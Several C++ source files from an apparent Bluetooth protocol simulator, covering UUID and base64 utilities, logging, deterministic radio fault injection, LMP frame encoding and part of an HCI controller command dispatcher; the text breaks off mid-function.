  static constexpr std::uint32_t kHandsFree = 0x3C0404;

  [[nodiscard]] std::uint32_t raw() const { return raw_; }
  [[nodiscard]] std::uint8_t major_class() const { return static_cast<std::uint8_t>((raw_ >> 8) & 0x1F); }
  [[nodiscard]] std::uint8_t minor_class() const { return static_cast<std::uint8_t>((raw_ >> 2) & 0x3F); }
  [[nodiscard]] std::uint16_t service_classes() const { return static_cast<std::uint16_t>((raw_ >> 13) & 0x7FF); }
  [[nodiscard]] std::string describe() const;

  void to_wire(ByteWriter& w) const;  // 3 bytes little-endian
  [[nodiscard]] static std::optional<ClassOfDevice> from_wire(ByteReader& r);

  friend constexpr auto operator<=>(const ClassOfDevice&, const ClassOfDevice&) = default;

 private:
  std::uint32_t raw_ = 0;
};

}  // namespace blap

template <>
struct std::hash<blap::BdAddr> {
  std::size_t operator()(const blap::BdAddr& a) const noexcept {
    std::uint64_t v = 0;
    for (std::uint8_t b : a.bytes()) v = (v << 8) | b;
    return std::hash<std::uint64_t>{}(v);
  }
};
