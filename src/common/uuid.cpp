#include "common/uuid.hpp"

#include <cstdio>

namespace blap {

namespace {
// Bluetooth Base UUID: 00000000-0000-1000-8000-00805f9b34fb
constexpr std::array<std::uint8_t, Uuid::kSize> kBaseUuid = {
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x10, 0x00,
    0x80, 0x00, 0x00, 0x80, 0x5f, 0x9b, 0x34, 0xfb};

int hexv(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}
}  // namespace

Uuid Uuid::from_uuid16(std::uint16_t short_uuid) {
  auto bytes = kBaseUuid;
  bytes[2] = static_cast<std::uint8_t>(short_uuid >> 8);
  bytes[3] = static_cast<std::uint8_t>(short_uuid);
  return Uuid(bytes);
}

std::optional<Uuid> Uuid::parse(std::string_view text) {
  std::array<std::uint8_t, kSize> out{};
  std::size_t idx = 0;
  int hi = -1;
  for (char c : text) {
    if (c == '-') {
      if (hi >= 0) return std::nullopt;
      continue;
    }
    const int v = hexv(c);
    if (v < 0) return std::nullopt;
    if (hi < 0) {
      hi = v;
    } else {
      if (idx >= kSize) return std::nullopt;
      out[idx++] = static_cast<std::uint8_t>((hi << 4) | v);
      hi = -1;
    }
  }
  if (idx != kSize || hi >= 0) return std::nullopt;
  return Uuid(out);
}

std::optional<std::uint16_t> Uuid::as_uuid16() const {
  auto expected = kBaseUuid;
  expected[2] = bytes_[2];
  expected[3] = bytes_[3];
  if (expected != bytes_) return std::nullopt;
  return static_cast<std::uint16_t>((bytes_[2] << 8) | bytes_[3]);
}

std::string Uuid::to_string() const {
  char buf[37];
  std::snprintf(buf, sizeof(buf),
                "%02x%02x%02x%02x-%02x%02x-%02x%02x-%02x%02x-%02x%02x%02x%02x%02x%02x",
                bytes_[0], bytes_[1], bytes_[2], bytes_[3], bytes_[4], bytes_[5], bytes_[6],
                bytes_[7], bytes_[8], bytes_[9], bytes_[10], bytes_[11], bytes_[12], bytes_[13],
                bytes_[14], bytes_[15]);
  return buf;
}

}  // namespace blap
