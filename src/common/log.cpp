#include "common/log.hpp"

#include <cstdarg>
#include <vector>

namespace blap {

const char* to_string(LogLevel level) {
  switch (level) {
    case LogLevel::Trace: return "TRACE";
    case LogLevel::Debug: return "DEBUG";
    case LogLevel::Info: return "INFO";
    case LogLevel::Warn: return "WARN";
    case LogLevel::Error: return "ERROR";
    case LogLevel::Off: return "OFF";
  }
  return "?";
}

Logger& Logger::instance() {
  static Logger logger;
  return logger;
}

void Logger::set_sink(Sink sink) {
  std::shared_ptr<const Sink> next =
      sink ? std::make_shared<const Sink>(std::move(sink)) : nullptr;
  std::lock_guard<std::mutex> lock(sink_mutex_);
  sink_ = std::move(next);
}

std::shared_ptr<const Logger::Sink> Logger::current_sink() const {
  std::lock_guard<std::mutex> lock(sink_mutex_);
  return sink_;
}

void Logger::log(LogLevel level, const std::string& component, const std::string& msg) {
  if (!enabled(level)) return;
  // Grab a reference under the lock, call outside it: a concurrent
  // set_sink() can retire the sink but not destroy it under our feet.
  if (const std::shared_ptr<const Sink> sink = current_sink()) {
    (*sink)(level, component, msg);
    return;
  }
  std::fprintf(stderr, "[%-5s] %-12s %s\n", to_string(level), component.c_str(), msg.c_str());
}

std::string strfmt(const char* fmt, ...) {
  va_list args;
  va_start(args, fmt);
  va_list args2;
  va_copy(args2, args);
  const int n = std::vsnprintf(nullptr, 0, fmt, args);
  va_end(args);
  if (n <= 0) {
    va_end(args2);
    return {};
  }
  std::vector<char> buf(static_cast<std::size_t>(n) + 1);
  std::vsnprintf(buf.data(), buf.size(), fmt, args2);
  va_end(args2);
  return std::string(buf.data(), static_cast<std::size_t>(n));
}

}  // namespace blap
