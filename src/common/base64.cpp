#include "common/base64.hpp"

#include <array>

namespace blap {

namespace {
constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

std::array<std::int8_t, 256> build_reverse_table() {
  std::array<std::int8_t, 256> table{};
  table.fill(-1);
  for (int i = 0; i < 64; ++i) table[static_cast<unsigned char>(kAlphabet[i])] = static_cast<std::int8_t>(i);
  return table;
}
}  // namespace

std::string base64_encode(BytesView data, std::size_t line_width) {
  std::string out;
  out.reserve((data.size() + 2) / 3 * 4);
  std::size_t column = 0;
  auto emit = [&](char c) {
    out.push_back(c);
    if (line_width != 0 && ++column == line_width) {
      out.push_back('\n');
      column = 0;
    }
  };
  std::size_t i = 0;
  while (i + 3 <= data.size()) {
    const std::uint32_t triple = (static_cast<std::uint32_t>(data[i]) << 16) |
                                 (static_cast<std::uint32_t>(data[i + 1]) << 8) | data[i + 2];
    emit(kAlphabet[(triple >> 18) & 63]);
    emit(kAlphabet[(triple >> 12) & 63]);
    emit(kAlphabet[(triple >> 6) & 63]);
    emit(kAlphabet[triple & 63]);
    i += 3;
  }
  const std::size_t rest = data.size() - i;
  if (rest == 1) {
    const std::uint32_t triple = static_cast<std::uint32_t>(data[i]) << 16;
    emit(kAlphabet[(triple >> 18) & 63]);
    emit(kAlphabet[(triple >> 12) & 63]);
    emit('=');
    emit('=');
  } else if (rest == 2) {
    const std::uint32_t triple = (static_cast<std::uint32_t>(data[i]) << 16) |
                                 (static_cast<std::uint32_t>(data[i + 1]) << 8);
    emit(kAlphabet[(triple >> 18) & 63]);
    emit(kAlphabet[(triple >> 12) & 63]);
    emit(kAlphabet[(triple >> 6) & 63]);
    emit('=');
  }
  return out;
}

std::optional<Bytes> base64_decode(const std::string& text) {
  static const std::array<std::int8_t, 256> reverse = build_reverse_table();
  Bytes out;
  std::uint32_t accumulator = 0;
  int bits = 0;
  int padding = 0;
  for (char c : text) {
    if (c == ' ' || c == '\n' || c == '\r' || c == '\t') continue;
    if (c == '=') {
      ++padding;
      continue;
    }
    if (padding > 0) return std::nullopt;  // data after padding
    const std::int8_t value = reverse[static_cast<unsigned char>(c)];
    if (value < 0) return std::nullopt;
    accumulator = (accumulator << 6) | static_cast<std::uint32_t>(value);
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out.push_back(static_cast<std::uint8_t>(accumulator >> bits));
    }
  }
  // The final quantum must be complete: a 1-byte tail encodes as two symbols
  // plus "==", a 2-byte tail as three symbols plus "=". Anything else —
  // notably a stream cut mid-group — is truncation, not a short encoding,
  // and silently dropping the dangling bits would hide the damage.
  const bool complete = (bits == 0 && padding == 0) || (bits == 4 && padding == 2) ||
                        (bits == 2 && padding == 1);
  if (!complete) return std::nullopt;
  return out;
}

}  // namespace blap
