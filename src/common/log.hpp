// log.hpp — lightweight leveled logging for the simulator.
//
// Components log protocol milestones (pairing stages, LMP auth, attack
// steps). The default sink is stderr with a global minimum level; tests set
// the level to Error to stay quiet, examples set Info to narrate scenarios.
// A capture sink can be installed to assert on log output in tests.
#pragma once

#include <atomic>
#include <cstdio>
#include <functional>
#include <memory>
#include <mutex>
#include <string>

namespace blap {

enum class LogLevel : int { Trace = 0, Debug = 1, Info = 2, Warn = 3, Error = 4, Off = 5 };

[[nodiscard]] const char* to_string(LogLevel level);

class Logger {
 public:
  using Sink = std::function<void(LogLevel, const std::string& component, const std::string& msg)>;

  static Logger& instance();

  /// Level reads/writes are atomic: campaign workers consult enabled() on
  /// every log macro while the main thread may still be configuring.
  void set_level(LogLevel level) { level_.store(level, std::memory_order_relaxed); }
  [[nodiscard]] LogLevel level() const { return level_.load(std::memory_order_relaxed); }

  /// Replace the output sink (an empty Sink restores the stderr default).
  /// Safe to call while other threads log: the sink lives behind a
  /// mutex-guarded shared_ptr, so an in-flight log() keeps the sink it
  /// already grabbed alive while the swap happens.
  void set_sink(Sink sink);

  void log(LogLevel level, const std::string& component, const std::string& msg);

  [[nodiscard]] bool enabled(LogLevel level) const {
    return static_cast<int>(level) >= static_cast<int>(this->level());
  }

 private:
  Logger() = default;
  [[nodiscard]] std::shared_ptr<const Sink> current_sink() const;

  std::atomic<LogLevel> level_{LogLevel::Warn};
  mutable std::mutex sink_mutex_;
  std::shared_ptr<const Sink> sink_;  // null = stderr default
};

/// printf-style formatting into std::string.
std::string strfmt(const char* fmt, ...) __attribute__((format(printf, 1, 2)));

#define BLAP_LOG(level, component, ...)                                       \
  do {                                                                        \
    if (::blap::Logger::instance().enabled(level)) {                          \
      ::blap::Logger::instance().log(level, component, ::blap::strfmt(__VA_ARGS__)); \
    }                                                                         \
  } while (0)

#define BLAP_TRACE(component, ...) BLAP_LOG(::blap::LogLevel::Trace, component, __VA_ARGS__)
#define BLAP_DEBUG(component, ...) BLAP_LOG(::blap::LogLevel::Debug, component, __VA_ARGS__)
#define BLAP_INFO(component, ...) BLAP_LOG(::blap::LogLevel::Info, component, __VA_ARGS__)
#define BLAP_WARN(component, ...) BLAP_LOG(::blap::LogLevel::Warn, component, __VA_ARGS__)
#define BLAP_ERROR(component, ...) BLAP_LOG(::blap::LogLevel::Error, component, __VA_ARGS__)

}  // namespace blap
