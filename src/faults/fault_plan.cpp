#include "faults/fault_plan.hpp"

#include <algorithm>
#include <cstdio>

namespace blap::faults {

namespace {

/// SplitMix64 output function: mixes (plan seed, link id) into an Rng seed
/// so per-link streams are unrelated even for adjacent link ids.
std::uint64_t mix(std::uint64_t a, std::uint64_t b) {
  std::uint64_t z = a + 0x9E3779B97F4A7C15ULL * (b + 1);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

}  // namespace

const char* to_string(FaultVerdict verdict) {
  switch (verdict) {
    case FaultVerdict::kDeliver: return "deliver";
    case FaultVerdict::kDropLoss: return "loss";
    case FaultVerdict::kDropBurst: return "burst";
    case FaultVerdict::kDropJam: return "jam";
    case FaultVerdict::kCorrupt: return "corrupt";
  }
  return "?";
}

std::string FaultPlan::describe() const {
  if (!enabled()) return "faults off";
  char buf[128];
  std::snprintf(buf, sizeof buf, "loss=%.3f%s corrupt=%.3f jam_windows=%zu", loss,
                burst_enabled ? " +burst" : "", corruption, jam_windows.size());
  return buf;
}

ChannelModel::ChannelModel(const FaultPlan& plan, std::uint64_t link_id)
    : plan_(plan), rng_(mix(plan.seed, link_id)) {}

FaultVerdict ChannelModel::judge(SimTime now) {
  // Jam windows first and draw-free: a scheduled jammer is not random, and
  // skipping the Rng keeps the post-window fault sequence identical whether
  // or not a window was configured before it.
  for (const JamWindow& window : plan_.jam_windows)
    if (now >= window.begin && now < window.end) return FaultVerdict::kDropJam;

  if (plan_.burst_enabled) {
    if (in_burst_) {
      if (rng_.chance(plan_.p_exit_burst)) in_burst_ = false;
    } else if (rng_.chance(plan_.p_enter_burst)) {
      in_burst_ = true;
    }
    if (in_burst_ && rng_.chance(plan_.burst_loss)) return FaultVerdict::kDropBurst;
  }

  if (plan_.loss > 0.0 && rng_.chance(plan_.loss)) return FaultVerdict::kDropLoss;
  if (plan_.corruption > 0.0 && rng_.chance(plan_.corruption))
    return FaultVerdict::kCorrupt;
  return FaultVerdict::kDeliver;
}

void ChannelModel::corrupt(Bytes& frame) {
  if (frame.empty()) return;
  const std::uint64_t flips =
      1 + rng_.uniform(std::min<std::uint64_t>(3, frame.size()));
  for (std::uint64_t i = 0; i < flips; ++i) {
    const auto pos = static_cast<std::size_t>(rng_.uniform(frame.size()));
    // XOR with a nonzero byte guarantees the frame actually changes.
    frame[pos] ^= static_cast<std::uint8_t>(1 + rng_.uniform(255));
  }
}

void FaultPlan::save_state(state::StateWriter& w) const {
  w.u64(seed);
  w.f64(loss);
  w.boolean(burst_enabled);
  w.f64(p_enter_burst);
  w.f64(p_exit_burst);
  w.f64(burst_loss);
  w.f64(corruption);
  w.u64(jam_windows.size());
  for (const JamWindow& window : jam_windows) {
    w.u64(window.begin);
    w.u64(window.end);
  }
}

FaultPlan FaultPlan::load_state(state::StateReader& r) {
  FaultPlan plan;
  plan.seed = r.u64();
  plan.loss = r.f64();
  plan.burst_enabled = r.boolean();
  plan.p_enter_burst = r.f64();
  plan.p_exit_burst = r.f64();
  plan.burst_loss = r.f64();
  plan.corruption = r.f64();
  const std::uint64_t windows = r.u64();
  for (std::uint64_t i = 0; i < windows && r.ok(); ++i) {
    JamWindow window;
    window.begin = r.u64();
    window.end = r.u64();
    plan.jam_windows.push_back(window);
  }
  return plan;
}

void ChannelModel::save_state(state::StateWriter& w) const {
  for (const std::uint64_t word : rng_.state()) w.u64(word);
  w.boolean(in_burst_);
}

void ChannelModel::load_state(state::StateReader& r) {
  std::array<std::uint64_t, 4> words{};
  for (std::uint64_t& word : words) word = r.u64();
  rng_.set_state(words);
  in_burst_ = r.boolean();
}

}  // namespace blap::faults
