// fault_plan.hpp — deterministic fault injection for the radio medium.
//
// The paper's Table II numbers exist because real 2.4 GHz links are lossy:
// page trains collide with Wi-Fi, LMP frames die in microwave-oven bursts,
// and every stack layer carries timers to survive it. A FaultPlan describes
// a degraded-RF scenario as data — iid frame loss, Gilbert-Elliott burst
// interference, residual byte corruption, and scheduled jammer windows — so
// a campaign can sweep attack success against channel quality exactly the
// way it sweeps seeds.
//
// Determinism contract: every random decision is drawn from an Rng seeded
// by (plan.seed, link id), entirely separate from the medium's own stream,
// and all jammer timing is virtual time. A default-constructed FaultPlan is
// *disabled*: no channel models are built, no extra events are scheduled,
// no Rng is ever consulted — simulations without a plan stay byte-identical
// to a build without this subsystem.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "common/bytes.hpp"
#include "common/rng.hpp"
#include "common/scheduler.hpp"
#include "common/state_io.hpp"

namespace blap::faults {

/// A virtual-time interval [begin, end) during which a jammer owns the
/// channel: every frame transmitted inside it is lost.
struct JamWindow {
  SimTime begin = 0;
  SimTime end = 0;
};

/// Declarative description of one degraded-RF scenario. All probabilities
/// are per-frame. The plan is plain data so campaign trials can build it
/// from swept parameters and a per-trial seed.
struct FaultPlan {
  /// Folded with the link id into each per-link ChannelModel stream, so
  /// adding a link never perturbs another link's fault sequence.
  std::uint64_t seed = 0;

  /// Independent (iid) frame-loss probability — the memoryless floor that
  /// models ambient 2.4 GHz congestion.
  double loss = 0.0;

  /// Gilbert-Elliott two-state burst model. Each frame first steps the
  /// good/bad Markov chain (good→bad with p_enter_burst, bad→good with
  /// p_exit_burst), then while in the bad state is lost with burst_loss.
  /// Mean burst length is 1/p_exit_burst frames; stationary bad-state
  /// probability is p_enter / (p_enter + p_exit).
  bool burst_enabled = false;
  double p_enter_burst = 0.05;
  double p_exit_burst = 0.30;
  double burst_loss = 0.9;

  /// Residual (CRC-escaping) corruption: the frame is delivered, but with
  /// 1–3 bytes flipped. Exercises every receive-path parser the fuzz tests
  /// cover, now on live protocol state.
  double corruption = 0.0;

  /// Scheduled jammer ownership of the channel. Checked before any random
  /// draw, so a plan that is *only* jam windows consumes no randomness
  /// outside them.
  std::vector<JamWindow> jam_windows;

  /// True when any fault mechanism is configured. A disabled plan promises
  /// zero behavioural difference: no ChannelModel, no ARQ reports, no
  /// supervision timers, no Rng draws.
  [[nodiscard]] bool enabled() const {
    return loss > 0.0 || burst_enabled || corruption > 0.0 || !jam_windows.empty();
  }

  /// Short human-readable summary for bench banners and campaign labels.
  [[nodiscard]] std::string describe() const;

  /// Snapshot/bundle serialization: a plan is plain data, round-tripped
  /// field by field.
  void save_state(state::StateWriter& w) const;
  [[nodiscard]] static FaultPlan load_state(state::StateReader& r);
};

/// Why (or whether) a frame survived the channel.
enum class FaultVerdict : std::uint8_t {
  kDeliver,    // frame arrives intact
  kDropLoss,   // iid loss
  kDropBurst,  // lost inside a Gilbert-Elliott bad state
  kDropJam,    // transmitted inside a jam window
  kCorrupt,    // delivered with flipped bytes (residual errors)
};

[[nodiscard]] const char* to_string(FaultVerdict verdict);

/// Per-link channel state machine. One instance per radio link, seeded from
/// (plan.seed, link id); judges every frame in transmit order, so the fault
/// sequence on a link is a pure function of the plan and that link's
/// traffic — independent of any other link.
class ChannelModel {
 public:
  ChannelModel(const FaultPlan& plan, std::uint64_t link_id);

  /// Decide the fate of one frame transmitted at virtual time `now`.
  [[nodiscard]] FaultVerdict judge(SimTime now);

  /// Flip 1–3 bytes of `frame` in place (no-op on an empty frame). Only
  /// called after judge() returned kCorrupt.
  void corrupt(Bytes& frame);

  /// Currently inside a Gilbert-Elliott bad state?
  [[nodiscard]] bool in_burst() const { return in_burst_; }

  /// Snapshot support: the mutable per-link channel state (Rng stream +
  /// burst flag). The plan itself is serialized by the owning medium;
  /// load_state is called on a model freshly built from that plan.
  void save_state(state::StateWriter& w) const;
  void load_state(state::StateReader& r);

 private:
  FaultPlan plan_;  // by value: the model must not dangle if the medium's plan is swapped
  Rng rng_;
  bool in_burst_ = false;
};

}  // namespace blap::faults
