#include "controller/lmp.hpp"

namespace blap::controller {

const char* to_string(LmpOpcode opcode) {
  switch (opcode) {
    case LmpOpcode::kHostConnectionReq: return "LMP_host_connection_req";
    case LmpOpcode::kAccepted: return "LMP_accepted";
    case LmpOpcode::kNotAccepted: return "LMP_not_accepted";
    case LmpOpcode::kSetupComplete: return "LMP_setup_complete";
    case LmpOpcode::kDetach: return "LMP_detach";
    case LmpOpcode::kAuRand: return "LMP_au_rand";
    case LmpOpcode::kSres: return "LMP_sres";
    case LmpOpcode::kIoCapabilityReq: return "LMP_io_capability_req";
    case LmpOpcode::kIoCapabilityRes: return "LMP_io_capability_res";
    case LmpOpcode::kEncapsulatedPublicKey: return "LMP_encapsulated (public key)";
    case LmpOpcode::kSimplePairingConfirm: return "LMP_Simple_Pairing_Confirm";
    case LmpOpcode::kSimplePairingNumber: return "LMP_Simple_Pairing_Number";
    case LmpOpcode::kDhkeyCheck: return "LMP_DHkey_Check";
    case LmpOpcode::kEncryptionModeReq: return "LMP_encryption_mode_req";
    case LmpOpcode::kStartEncryptionReq: return "LMP_start_encryption_req";
    case LmpOpcode::kStopEncryptionReq: return "LMP_stop_encryption_req";
    case LmpOpcode::kNameReq: return "LMP_name_req";
    case LmpOpcode::kNameRes: return "LMP_name_res";
    case LmpOpcode::kPing: return "LMP_ping";
    case LmpOpcode::kInRand: return "LMP_in_rand";
    case LmpOpcode::kCombKey: return "LMP_comb_key";
    case LmpOpcode::kAuRandSc: return "LMP_au_rand (secure authentication)";
    case LmpOpcode::kSresSc: return "LMP_sres (secure authentication)";
  }
  return "LMP_unknown";
}

Bytes LmpPdu::to_air_frame() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(AirChannel::kLmp));
  w.u8(static_cast<std::uint8_t>(opcode));
  w.raw(payload);
  return std::move(w).take();
}

std::optional<LmpPdu> LmpPdu::from_air_frame(BytesView frame) {
  ByteReader r(frame);
  auto channel = r.u8();
  if (!channel || *channel != static_cast<std::uint8_t>(AirChannel::kLmp)) return std::nullopt;
  auto opcode = r.u8();
  if (!opcode || *opcode == 0 || *opcode > static_cast<std::uint8_t>(LmpOpcode::kSresSc))
    return std::nullopt;
  LmpPdu pdu;
  pdu.opcode = static_cast<LmpOpcode>(*opcode);
  pdu.payload = to_bytes(r.rest());
  return pdu;
}

Bytes acl_air_frame(BytesView l2cap_payload) {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(AirChannel::kAcl));
  w.raw(l2cap_payload);
  return std::move(w).take();
}

std::optional<Bytes> parse_acl_air_frame(BytesView frame) {
  ByteReader r(frame);
  auto channel = r.u8();
  if (!channel || *channel != static_cast<std::uint8_t>(AirChannel::kAcl)) return std::nullopt;
  return to_bytes(r.rest());
}

Bytes LmpIoCap::encode() const {
  ByteWriter w;
  w.u8(io_capability).u8(oob_data_present).u8(authentication_requirements);
  return std::move(w).take();
}

std::optional<LmpIoCap> LmpIoCap::decode(BytesView payload) {
  ByteReader r(payload);
  auto io = r.u8();
  auto oob = r.u8();
  auto auth = r.u8();
  if (!io || !oob || !auth) return std::nullopt;
  return LmpIoCap{*io, *oob, *auth};
}

Bytes LmpPublicKey::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(x.size()));
  w.raw(x);
  w.raw(y);
  return std::move(w).take();
}

std::optional<LmpPublicKey> LmpPublicKey::decode(BytesView payload) {
  ByteReader r(payload);
  auto width = r.u8();
  if (!width || (*width != 24 && *width != 32)) return std::nullopt;
  auto x = r.bytes(*width);
  auto y = r.bytes(*width);
  if (!x || !y) return std::nullopt;
  return LmpPublicKey{std::move(*x), std::move(*y)};
}

Bytes LmpNotAccepted::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(rejected_opcode)).u8(reason);
  return std::move(w).take();
}

std::optional<LmpNotAccepted> LmpNotAccepted::decode(BytesView payload) {
  ByteReader r(payload);
  auto op = r.u8();
  auto reason = r.u8();
  if (!op || !reason) return std::nullopt;
  return LmpNotAccepted{static_cast<LmpOpcode>(*op), *reason};
}

}  // namespace blap::controller
