#include "controller/controller.hpp"

#include <algorithm>

#include "chaos/failpoint.hpp"

namespace blap::controller {

namespace {
Bytes rand_bytes(const crypto::Rand128& r) { return Bytes(r.begin(), r.end()); }

crypto::Rand128 to_rand128(BytesView v) {
  crypto::Rand128 out{};
  std::copy_n(v.begin(), std::min<std::size_t>(v.size(), 16), out.begin());
  return out;
}
}  // namespace

Controller::Controller(Scheduler& scheduler, radio::RadioMedium& medium,
                       transport::HciTransport& transport, ControllerConfig config, Rng rng)
    : scheduler_(scheduler), medium_(medium), transport_(transport), config_(std::move(config)),
      rng_(rng) {
  medium_.attach(this);
  transport_.set_controller_receiver([this](const hci::HciPacket& p) { on_command(p); });
}

Controller::~Controller() { medium_.detach(this); }

void Controller::set_address(const BdAddr& address) {
  config_.address = address;
  medium_.notify_endpoint_changed(this);
}

bool Controller::inquiry_scan_enabled() const {
  return scan_enable_ == hci::ScanEnable::kInquiryOnly ||
         scan_enable_ == hci::ScanEnable::kInquiryAndPage;
}

bool Controller::page_scan_enabled() const {
  return scan_enable_ == hci::ScanEnable::kPageOnly ||
         scan_enable_ == hci::ScanEnable::kInquiryAndPage;
}

SimTime Controller::sample_page_response_latency(Rng& rng) {
  // The page completes at the next page-scan window; windows recur every
  // page_scan_interval, so the latency is uniform over one interval.
  return 1 + rng.uniform(config_.page_scan_interval);
}

// ---------------------------------------------------------------------------
// HCI plumbing
// ---------------------------------------------------------------------------

void Controller::send_event(const hci::HciPacket& packet) {
  if (obs_ != nullptr && obs_->metrics_on()) {
    obs_->count("hci.evt.total");
    if (const auto code = packet.event_code())
      obs_->count(strfmt("hci.evt.0x%02x", *code));
  }
  transport_.send(hci::Direction::kControllerToHost, packet);
}

void Controller::command_complete(std::uint16_t opcode, hci::Status status) {
  ByteWriter ret;
  ret.u8(static_cast<std::uint8_t>(status));
  command_complete_raw(opcode, ret.data());
}

void Controller::command_complete_raw(std::uint16_t opcode, BytesView return_params) {
  hci::CommandCompleteEvt evt;
  evt.command_opcode = opcode;
  evt.return_parameters = to_bytes(return_params);
  send_event(evt.encode());
}

void Controller::command_status(std::uint16_t opcode, hci::Status status) {
  hci::CommandStatusEvt evt;
  evt.status = status;
  evt.command_opcode = opcode;
  send_event(evt.encode());
}

void Controller::on_command(const hci::HciPacket& packet) {
  if (packet.type == hci::PacketType::kAclData) {
    // Outgoing ACL data from the host.
    if (obs_ != nullptr) obs_->count("hci.acl.tx");
    auto handle = packet.acl_handle();
    auto data = packet.acl_data();
    if (!handle || !data) return;
    Link* link = link_by_handle(*handle);
    if (link == nullptr || link->state != LinkState::kConnected) return;
    Bytes payload = to_bytes(*data);
    if (link->encrypted) {
      const BdAddr master = link->initiator ? config_.address : link->peer;
      crypto::E0Cipher cipher(link->enc_key, master, link->tx_counter++);
      cipher.crypt(payload);
    }
    send_baseband(*link, acl_air_frame(payload));
    return;
  }
  if (packet.type != hci::PacketType::kCommand) return;

  const auto opcode = packet.command_opcode();
  const auto params = packet.command_params();
  if (!opcode || !params) return;

  if (obs_ != nullptr && obs_->metrics_on()) {
    obs_->count("hci.cmd.total");
    switch (*opcode >> 10) {  // opcode group field
      case 0x01: obs_->count("hci.cmd.link_control"); break;
      case 0x03: obs_->count("hci.cmd.baseband"); break;
      case 0x04: obs_->count("hci.cmd.informational"); break;
      default: obs_->count("hci.cmd.other"); break;
    }
  }

  switch (*opcode) {
    case hci::op::kReset:
      links_.clear();
      scan_enable_ = hci::ScanEnable::kInquiryAndPage;
      medium_.notify_endpoint_changed(this);
      command_complete(*opcode, hci::Status::kSuccess);
      break;
    case hci::op::kReadBdAddr: {
      ByteWriter ret;
      ret.u8(0);
      config_.address.to_wire(ret);
      command_complete_raw(*opcode, ret.data());
      break;
    }
    case hci::op::kWriteScanEnable:
      if (auto cmd = hci::WriteScanEnableCmd::decode(*params)) {
        scan_enable_ = cmd->scan_enable;
        medium_.notify_endpoint_changed(this);
        command_complete(*opcode, hci::Status::kSuccess);
      }
      break;
    case hci::op::kWriteClassOfDevice:
      if (auto cmd = hci::WriteClassOfDeviceCmd::decode(*params)) {
        config_.class_of_device = cmd->class_of_device;
        command_complete(*opcode, hci::Status::kSuccess);
      }
      break;
    case hci::op::kWriteLocalName:
      if (auto cmd = hci::WriteLocalNameCmd::decode(*params)) {
        config_.name = cmd->name;
        command_complete(*opcode, hci::Status::kSuccess);
      }
      break;
    case hci::op::kWriteSimplePairingMode:
      if (auto cmd = hci::WriteSimplePairingModeCmd::decode(*params)) {
        simple_pairing_mode_ = cmd->enabled != 0;
        command_complete(*opcode, hci::Status::kSuccess);
      }
      break;
    case hci::op::kInquiry:
      if (auto cmd = hci::InquiryCmd::decode(*params)) handle_inquiry(*cmd);
      break;
    case hci::op::kInquiryCancel:
      inquiring_ = false;
      command_complete(*opcode, hci::Status::kSuccess);
      break;
    case hci::op::kCreateConnection:
      if (auto cmd = hci::CreateConnectionCmd::decode(*params)) handle_create_connection(*cmd);
      break;
    case hci::op::kAcceptConnectionRequest:
      if (auto cmd = hci::AcceptConnectionRequestCmd::decode(*params))
        handle_accept_connection(*cmd);
      break;
    case hci::op::kRejectConnectionRequest:
      if (auto cmd = hci::RejectConnectionRequestCmd::decode(*params))
        handle_reject_connection(*cmd);
      break;
    case hci::op::kDisconnect:
      if (auto cmd = hci::DisconnectCmd::decode(*params)) handle_disconnect(*cmd);
      break;
    case hci::op::kAuthenticationRequested:
      if (auto cmd = hci::AuthenticationRequestedCmd::decode(*params))
        handle_authentication_requested(*cmd);
      break;
    case hci::op::kLinkKeyRequestReply:
      if (auto cmd = hci::LinkKeyRequestReplyCmd::decode(*params)) handle_link_key_reply(*cmd);
      break;
    case hci::op::kLinkKeyRequestNegativeReply:
      if (auto cmd = hci::LinkKeyRequestNegativeReplyCmd::decode(*params))
        handle_link_key_negative_reply(*cmd);
      break;
    case hci::op::kIoCapabilityRequestReply:
      if (auto cmd = hci::IoCapabilityRequestReplyCmd::decode(*params))
        handle_io_capability_reply(*cmd);
      break;
    case hci::op::kPinCodeRequestReply:
      if (auto cmd = hci::PinCodeRequestReplyCmd::decode(*params)) handle_pin_code_reply(*cmd);
      break;
    case hci::op::kPinCodeRequestNegativeReply:
      if (auto cmd = hci::PinCodeRequestNegativeReplyCmd::decode(*params)) {
        command_complete(*opcode, hci::Status::kSuccess);
        handle_pin_code_negative_reply(cmd->bdaddr);
      }
      break;
    case hci::op::kUserConfirmationRequestReply:
      if (auto cmd = hci::UserConfirmationRequestReplyCmd::decode(*params)) {
        command_complete(*opcode, hci::Status::kSuccess);
        handle_user_confirmation(cmd->bdaddr, true);
      }
      break;
    case hci::op::kUserConfirmationRequestNegativeReply:
      if (auto cmd = hci::UserConfirmationRequestNegativeReplyCmd::decode(*params)) {
        command_complete(*opcode, hci::Status::kSuccess);
        handle_user_confirmation(cmd->bdaddr, false);
      }
      break;
    case hci::op::kSetConnectionEncryption:
      if (auto cmd = hci::SetConnectionEncryptionCmd::decode(*params)) handle_set_encryption(*cmd);
      break;
    case hci::op::kRemoteNameRequest:
      if (auto cmd = hci::RemoteNameRequestCmd::decode(*params)) handle_remote_name_request(*cmd);
      break;
    default:
      command_status(*opcode, hci::Status::kSuccess);
      break;
  }
}

// ---------------------------------------------------------------------------
// Command handlers
// ---------------------------------------------------------------------------

void Controller::handle_inquiry(const hci::InquiryCmd& cmd) {
  command_status(hci::op::kInquiry, hci::Status::kSuccess);
  inquiring_ = true;
  const SimTime duration =
      static_cast<SimTime>(cmd.inquiry_length) * 1'280 * kMillisecond;
  medium_.start_inquiry(
      this, duration,
      [this](const radio::InquiryResponse& response) {
        if (!inquiring_) return;
        // BT 2.1+ responders answer with Extended Inquiry Response data
        // (their name, notably); pre-EIR responders get the basic event.
        if (!response.name.empty()) {
          hci::ExtendedInquiryResultEvt evt;
          evt.bdaddr = response.address;
